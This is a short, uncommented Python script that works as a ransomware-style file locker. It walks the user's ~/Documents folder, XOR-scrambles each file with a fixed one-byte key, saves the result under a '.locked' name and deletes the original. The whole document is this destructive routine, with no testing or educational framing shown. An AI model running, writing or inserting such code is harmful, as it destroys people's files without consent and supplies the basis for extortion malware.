import os

KEY = 0x5A
for root, dirs, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        p = os.path.join(root, name)
        with open(p, "rb") as f:
            data = bytes(b ^ KEY for b in f.read())
        with open(p + ".locked", "wb") as f:
            f.write(data)
        os.remove(p)
